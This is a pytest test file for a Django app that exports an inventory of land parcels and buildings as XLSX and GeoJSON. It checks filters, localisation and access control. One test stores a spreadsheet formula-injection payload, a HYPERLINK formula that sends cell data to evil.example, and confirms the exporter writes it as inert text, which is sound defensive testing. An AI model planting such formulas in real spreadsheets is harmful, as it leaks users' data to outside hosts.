"""Exporting the officers' inventory: XLSX (a sheet per kind, headers in the officer's
language, numbers as numbers, no formulas) and GeoJSON (WGS 84, outline or point, the
fields under the names the import reads), from the list's page and from the API, with the
list's filters, in chunks, and refused to whoever may not export."""

from __future__ import annotations

import io
import json

import pytest
import shapely
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from shapely.geometry import shape

from tests.factories import UserFactory
from tests.sites.factories import building_make, parcel_make, park_make
from tests.support import signed_in
from zhaoshang.core.roles import Role
from zhaoshang.core.services import api_token_create
from zhaoshang.sites import exporting

pytestmark = pytest.mark.django_db

SQUARE = {
    "type": "Polygon",
    "coordinates": [
        [[112.73, 23.33], [112.731, 23.33], [112.731, 23.331], [112.73, 23.331], [112.73, 23.33]]
    ],
}


def _body(response) -> bytes:
    return b"".join(response.streaming_content)


def _workbook(response):
    return load_workbook(io.BytesIO(_body(response)))


def _column(sheet, header: str) -> list:
    rows = list(sheet.iter_rows(values_only=True))
    at = rows[0].index(header)
    return [row[at] for row in rows[1:]]


def test_xlsx_has_the_lists_sites_with_its_filters_numbers_as_numbers(officer):
    parcel_make(number="SH-BIG", area_m2="70000", price_per_mu="180000")
    parcel_make(number="SH-SMALL", area_m2="2000")
    building_make(code="SHB-BIG", floor_area_m2="30000")
    building_make(code="SHB-SMALL", floor_area_m2="800")
    answer = signed_in(officer).get(
        reverse("sites-export", args=["sites.xlsx"]), {"area_min": "10000"}
    )
    book = _workbook(answer)
    parcels, buildings = book["Land parcels"], book["Buildings"]
    assert answer.status_code == 200
    assert _column(parcels, "Parcel number") == ["SH-BIG"]
    assert _column(parcels, "Area (m²)") == [70000]
    assert _column(parcels, "Price per mu (yuan)") == [180000]
    assert _column(buildings, "Building code") == ["SHB-BIG"]


def test_xlsx_headers_are_in_the_officers_language(officer):
    parcel_make(number="SH-1")
    client = signed_in(officer)
    answer = client.get("/zh-hans" + reverse("sites-export", args=["sites.xlsx"])[3:])
    headers = next(_workbook(answer).worksheets[0].iter_rows(values_only=True))
    assert "地块编号" in headers


def test_xlsx_writes_formula_like_text_as_text(officer):
    parcel_make(number="SH-F", notes='=HYPERLINK("http://evil.example/?"&A1)')
    book = _workbook(signed_in(officer).get(reverse("sites-export", args=["sites.xlsx"])))
    sheet = book["Land parcels"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Officers' notes") + 1)
    assert cell.data_type == "s"
    assert cell.value == '=HYPERLINK("http://evil.example/?"&A1)'


def test_geojson_reads_back_with_outline_point_and_import_field_names(officer):
    park = park_make(slug="sihui-park")
    parcel_make(number="SH-OUT", outline=SQUARE, park=park.slug, industries_allowed=["C38"])
    parcel_make(number="SH-PT", lat=23.34, lng=112.74)
    answer = signed_in(officer).get(reverse("sites-export", args=["parcels.geojson"]))
    data = json.loads(_body(answer))
    features = {f["properties"]["number"]: f for f in data["features"]}
    outlined, pointed = features["SH-OUT"], features["SH-PT"]
    assert answer["Content-Type"] == "application/geo+json"
    assert data["type"] == "FeatureCollection"
    assert shape(outlined["geometry"]).equals(shape(SQUARE))
    assert shape(pointed["geometry"]).equals(shapely.Point(112.74, 23.34))
    assert outlined["properties"]["park"] == "sihui-park"
    assert outlined["properties"]["region"] == "441284"
    assert outlined["properties"]["area_m2"] == 33333.5
    assert outlined["properties"]["land_use"] == "0601"
    assert outlined["properties"]["industries_allowed"] == ["C38"]
    assert outlined["properties"]["status"] == "available"


def test_geojson_of_buildings_keeps_the_filter(officer):
    building_make(code="SHB-F", kind="factory")
    building_make(code="SHB-W", kind="warehouse")
    answer = signed_in(officer).get(
        reverse("sites-export", args=["buildings.geojson"]), {"kind": "warehouse"}
    )
    features = json.loads(_body(answer))["features"]
    assert [f["properties"]["code"] for f in features] == ["SHB-W"]
    assert features[0]["properties"]["kind"] == "warehouse"


def test_rows_are_read_in_chunks_and_none_is_lost_or_repeated(officer, monkeypatch):
    monkeypatch.setattr(exporting, "CHUNK", 2)
    for n in range(5):
        parcel_make(number=f"SH-C{n}")
    answer = signed_in(officer).get(reverse("sites-export", args=["parcels.geojson"]))
    numbers = [f["properties"]["number"] for f in json.loads(_body(answer))["features"]]
    assert numbers == [f"SH-C{n}" for n in range(5)]


def test_a_filter_that_does_not_hold_exports_nothing(officer):
    parcel_make(number="SH-1")
    answer = signed_in(officer).get(
        reverse("sites-export", args=["sites.xlsx"]), {"area_min": "lots"}
    )
    assert answer.status_code == 400
    assert "Nothing was exported" in answer.content.decode()


def test_list_offers_the_exports_to_officers_only(officer):
    reader = UserFactory.create(roles=[Role.POLICY_OFFICER])
    export = reverse("sites-export", args=["sites.xlsx"])
    assert export in signed_in(officer).get(reverse("sites-list")).content.decode()
    assert export not in signed_in(reader).get(reverse("sites-list")).content.decode()


def test_who_may_not_export_is_refused(enterprise_user):
    parcel_make(number="SH-1")
    reader = UserFactory.create(roles=[Role.POLICY_OFFICER])
    url = reverse("sites-export", args=["parcels.geojson"])
    assert signed_in(reader).get(url).status_code == 403
    assert signed_in(enterprise_user).get(url).status_code == 403
    assert Client().get(url).status_code == 302


def _api(user) -> Client:
    _token, raw = api_token_create(actor=user, name="tests")
    return Client(headers={"Authorization": f"Bearer {raw}"})


def test_api_exports_parcels_as_geojson_and_buildings_as_xlsx(officer):
    parcel_make(number="SH-BIG", area_m2="70000")
    parcel_make(number="SH-SMALL", area_m2="2000")
    building_make(code="SHB-1")
    api = _api(officer)
    geo = api.get("/api/sites/parcels/export", {"format": "geojson", "area_min": "10000"})
    xlsx = api.get("/api/sites/buildings/export", {"format": "xlsx"})
    numbers = [f["properties"]["number"] for f in json.loads(_body(geo))["features"]]
    book = _workbook(xlsx)
    assert numbers == ["SH-BIG"]
    assert book.sheetnames == ["Buildings"]
    assert _column(book["Buildings"], "Building code") == ["SHB-1"]


def test_api_export_is_refused_to_readers(db):
    reader = UserFactory.create(roles=[Role.POLICY_OFFICER])
    assert _api(reader).get("/api/sites/parcels/export").status_code == 403
